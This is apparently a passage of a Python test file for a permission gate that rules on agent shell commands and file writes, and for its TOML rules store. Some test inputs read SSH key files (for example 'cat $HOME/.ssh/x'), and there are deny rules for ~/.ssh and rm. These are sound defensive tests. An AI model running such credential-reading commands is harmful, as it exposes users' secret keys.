def test_an_evil_command_within_a_harmless_one_is_never_allowed(one: str, wrap: str, other: str) -> None:
    assert effect(shell(f"{one} {wrap.replace('{}', other).replace('{{', '{').replace('}}', '}')}"), *HARMLESS) == "ask"


shell_text = st.text(st.sampled_from("ls gitau;&|<>(){}$`'\"\\#\n\t*?~=-./x"), max_size=24)


@given(shell_text)
@example("ls '\\'; x")
@example('ls "\\"; x"')
@example("ls \\'; x '")
def test_a_line_that_is_allowed_has_only_words_that_a_shell_reads_so(tail: str) -> None:
    """Compare with a second parser: outside quotes, an allowed line has no shell syntax but separators."""
    command = shell_module.read(f"ls {tail}")
    if not command.parts:
        return
    bare, quote, skip = "", "", False
    for char in command.text:
        if skip:
            skip = False
        elif char == "\\" and quote != "'":
            skip = True
        elif quote:
            assert quote == "'" or char not in "$`"
            quote = "" if char == quote else quote
        elif char in "'\"":
            quote = char
        else:
            bare += char
    assert not quote
    assert not skip
    assert not set(bare) & set("<>(){}$`*?[\n")
    assert len(command.parts) == 1 + sum(bare.replace("&&", ";").replace("||", ";").count(join) for join in ";&|")


@given(shell_text, st.sampled_from(SOME_RULES))
def test_no_line_makes_us_fail(text: str, rule: str) -> None:
    assert effect(shell(text), rule) in ("allow", "deny", "ask")


@given(st.one_of(shell_text.map(shell), st.text(max_size=12).map(write)), st.sampled_from(["session", "repo", "user"]))
def test_always_allows_what_it_was_said_to(asked_for: Gate, scope: Scope) -> None:
    try:
        rule = rule_for(asked_for, scope, HERE, 1)
    except InvalidRule:
        return
    assert parse(rule.text, 1) == rule
    assert decide(request_of(asked_for, HERE), [rule]) == Verdict("allow", (rule,))


@given(st.text(max_size=12), st.sampled_from(["allow Write", "allow Write at **", "deny * at **/x", "ask shell at x"]))
@example("\0", "deny * at **/x")
@example("\ud800", "allow Write at **")
@example("x" * 10_000, "allow Write")
def test_no_path_makes_us_fail_on_a_real_file_system(path: str, rule: str) -> None:
    workspace = Workspace(session_id="s1", cwd="/", home="/", resolve=os.path.realpath)
    assert effect(write(path), rule, workspace=workspace) in ("allow", "deny", "ask")
    assert effect(shell(path), rule, workspace=workspace) in ("allow", "deny", "ask")
    with contextlib.suppress(InvalidRule):
        rule_for(write(path), "user", workspace)


# --------------------------------------------------------------------------------------------- the rules file


@pytest.fixture
def store(tmp_path: Path) -> RuleStore:
    return RuleStore(tmp_path / "home" / "rules.toml")


def refusal(store: RuleStore, text: str | bytes) -> RulesUnreadable:
    store.path.parent.mkdir(exist_ok=True)
    store.path.write_bytes(text.encode() if isinstance(text, str) else text)
    with pytest.raises(RulesUnreadable) as told:
        store.rules()
    with pytest.raises(RulesUnreadable):
        store.add(parse("allow shell ls"))
    assert store.path.read_bytes() == (text.encode() if isinstance(text, str) else text)
    assert told.value.code == "rules_unreadable"
    return told.value


class TestTheFile:
    def test_no_file_is_no_rules(self, store: RuleStore) -> None:
        assert store.rules() == ()
        assert not store.path.exists()

    def test_rules_are_kept_as_they_were(self, store: RuleStore) -> None:
        rules = [
            parse("allow shell git status in repo /home/dev/site", 7),
            parse('deny shell exactly "a \\"b\\" \\n \\\\ \\u0000 ü"', 8),
            parse("deny * at ~/.ssh/**", 9),
        ]
        for rule in rules:
            assert store.add(rule) == rule
        assert store.rules() == tuple(rules) == RuleStore(store.path).rules()
        assert stat.S_IMODE(store.path.stat().st_mode) == 0o600

    def test_the_same_rule_twice_is_one_and_the_first_stays(self, store: RuleStore) -> None:
        first = store.add(parse("allow shell ls", 1))
        assert store.add(parse("allow shell ls", 2)) == first
        assert store.rules() == (first,)

    def test_a_rule_can_be_removed(self, store: RuleStore) -> None:
        one, two = store.add(parse("allow shell ls")), store.add(parse("allow shell pwd"))
        assert store.remove(one.id) == one
        assert store.rules() == (two,)
        with pytest.raises(NoSuchRule) as told:
            store.remove(one.id)
        assert told.value.code == "no_such_rule"

    def test_a_sessions_rule_is_not_for_the_file(self, store: RuleStore) -> None:
        with pytest.raises(InvalidRule, match="log"):
            store.add(parse("allow shell ls in session s1"))
        with pytest.raises(InvalidRule):
            store.add(Rule("allow", "shell", ("sudo",)))
        assert not store.path.exists()

    def test_what_a_person_wrote_stays(self, store: RuleStore) -> None:
        store.path.parent.mkdir()
        store.path.write_text("# mine\n[[rule]] # first\ntext = 'deny shell rm' # never\n\n# last words")
        store.add(parse("allow shell ls", 3))
        assert store.path.read_text().startswith(
            "# mine\n[[rule]] # first\ntext = 'deny shell rm' # never\n\n# last words\n"
        )
        store.remove(parse("allow shell ls").id)
        assert store.rules() == (parse("deny shell rm"),)
        assert "# never" in store.path.read_text()

    def test_other_forms_of_toml_are_understood_and_may_be_rewritten(self, store: RuleStore) -> None:
        store.path.parent.mkdir()
        store.path.write_text(
            "rule = [{text = 'deny shell rm'}, {text = 'deny shell rm'}, {text = 'ask *', created_at = 2}]"
        )
        assert store.rules() == (parse("deny shell rm"), parse("ask *", 2))
        store.add(parse("allow shell ls"))
        store.remove(parse("deny shell rm").id)
        assert store.rules() == (parse("ask *", 2), parse("allow shell ls"))

    def test_a_header_in_a_string_misleads_nobody(self, store: RuleStore) -> None:
        store.path.parent.mkdir()
        store.path.write_text('[[rule]]\ntext = """deny shell \\\n[[rule]]"""\n[[rule]]\ntext = "ask *"\n')
        assert store.rules() == (parse("deny shell [[rule]]"), parse("ask *"))
        store.remove(parse("deny shell [[rule]]").id)
        assert store.rules() == (parse("ask *"),)

    def test_a_change_by_hand_is_seen(self, store: RuleStore) -> None:
        store.add(parse("allow shell ls"))
        assert store.rules() is store.rules()
        store.path.write_text("[[rule]]\ntext = 'deny shell rm'\n")
        assert store.rules() == (parse("deny shell rm"),)
        store.path.unlink()
        assert store.rules() == ()

    def test_a_link_stays_a_link(self, store: RuleStore, tmp_path: Path) -> None:
        (tmp_path / "dotfiles").mkdir()
        store.path.parent.mkdir()
        store.path.symlink_to(tmp_path / "dotfiles" / "rules.toml")
        store.add(parse("allow shell ls"))
        assert store.path.is_symlink()
        assert RuleStore(tmp_path / "dotfiles" / "rules.toml").rules() == store.rules() != ()

    @pytest.mark.parametrize(
        ("text", "line", "what"),
        [
            ("[[rule]]\ntext = 'allow shell ls'\n\n[[rule]]\ntext = 'permit x'\n", 5, "permit"),
            ("# x\n[[rule]]\ntext = \n", 3, "TOML"),
            ("[[rule]]\ntext = 'allow", 2, "TOML"),
            ("[[rule]]\ncreated_at = 3\n", 1, "needs a text"),
            ("[[rule]]\n\ntext = 3\n", 3, "needs a text"),
            ("[[rule]]\ntext = 'ask *'\ncreated_at = 'x'\n", 2, "number"),
            ("[[rule]]\ntext = 'ask *'\neffect = 'deny'\n", 2, "effect"),
            ("[[rule]]\ntext = 'ask * in session s1'\n", 2, "log"),
            ("\n[[rules]]\ntext = 'ask *'\n", 2, "rules"),
            ("\n[rule]\ntext = 'ask *'\n", 2, "[[rule]]"),
            ("rule = ['ask *']", 0, "rule 1: "),
            ("rule = [{text='ask *'}, {text='x'}]", 0, "rule 2: "),
            (b"# ok\n\xff\n", 2, "UTF-8"),
            ("x = " + "[" * 100_000, 0, "nested"),
            ("#" * 4_000_001, 0, "large"),
        ],
    )
    def test_damage_is_told_with_its_line_and_never_taken_for_no_rules(
        self, store: RuleStore, text: str | bytes, line: int, what: str
    ) -> None:
        told = refusal(store, text)
        assert told.line == line
        assert what in told.message
        assert str(store.path) in told.message

    @given(cut=st.integers(0, 200), byte=st.integers(0, 255))
    def test_any_damage_is_typed(self, cut: int, byte: int, tmp_path_factory: pytest.TempPathFactory) -> None:
        store = RuleStore(tmp_path_factory.mktemp("damage") / "rules.toml")
        store.add(parse("allow shell git status in repo /home/dev/site", 7))
        data = store.path.read_bytes()
        store.path.write_bytes(data[:cut] + bytes([byte]) + data[cut + 1 :])
        with contextlib.suppress(RulesUnreadable):
            assert len(store.rules()) <= 1

    def test_a_file_that_everybody_may_write_is_not_believed(self, store: RuleStore) -> None:
        store.add(parse("allow shell ls"))
        store.path.chmod(0o666)
        with pytest.raises(RulesUnreadable, match="everybody"):
            RuleStore(store.path).rules()

    def test_a_folder_in_its_place_is_told(self, store: RuleStore) -> None:
        store.path.mkdir(parents=True)
        with pytest.raises(RulesUnreadable):
            store.rules()

    def test_a_write_that_fails_changes_nothing(self, store: RuleStore, monkeypatch: pytest.MonkeyPatch) -> None:
        store.add(parse("allow shell ls"))
        before = store.path.read_bytes()

        def full(handle: int) -> None:
            raise OSError(28, "No space left on device")

        with monkeypatch.context() as patch:
            patch.setattr(os, "fsync", full)
            with pytest.raises(OSError, match="space"):
                store.add(parse("allow shell pwd"))
        assert store.path.read_bytes() == before
        assert sorted(path.name for path in store.path.parent.iterdir()) == ["rules.toml", "rules.toml.lock"]

    def test_two_stores_keep_each_others_rules(self, store: RuleStore) -> None:
        other = RuleStore(store.path)
        assert store.rules() == other.rules() == ()
        store.add(parse("allow shell ls"))
        other.add(parse("allow shell pwd"))
        store.add(parse("allow shell wc"))
        assert len(store.rules()) == len(other.rules()) == 3

    def test_many_writers_at_once_lose_nothing(self, store: RuleStore) -> None:
        def work(number: int) -> None:
            mine = RuleStore(store.path)
            for step in range(5):
                mine.add(parse(f"deny shell p{number}x{step}"))
            mine.remove(parse(f"deny shell p{number}x0").id)

        threads = [threading.Thread(target=work, args=(number,)) for number in range(6)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert len(store.rules()) == 24


names = st.lists(st.sampled_from(["a", "b", "ab", "*", "?", "a*", "[ab]"]), max_size=4)


@given(names, st.lists(st.sampled_from(["a", "b", "ab", "c"]), max_size=5))
def test_a_pattern_without_folders_between_is_compared_at_once_and_means_the_same(
    wanted: list[str], found: list[str]
) -> None:
    slowly = any(paths_module._match(wanted, found[:end], fnmatchcase) for end in range(len(found) + 1))
    assert paths_module._matches_start(wanted, found) == slowly


@pytest.mark.parametrize("command", ["cat $HOME/.ssh/x", 'cat "${HOME}/.ssh/x"', "ls $HOME/.ssh", "x=$HOME/.ssh; ls"])
def test_a_home_by_its_variable_is_found(command: str) -> None:
    assert effect(shell(command), "deny * at ~/.ssh/**") == "deny"
    assert effect(shell("cat $HOMEX/.ssh/x"), "deny * at ~/.ssh/**") == "ask"
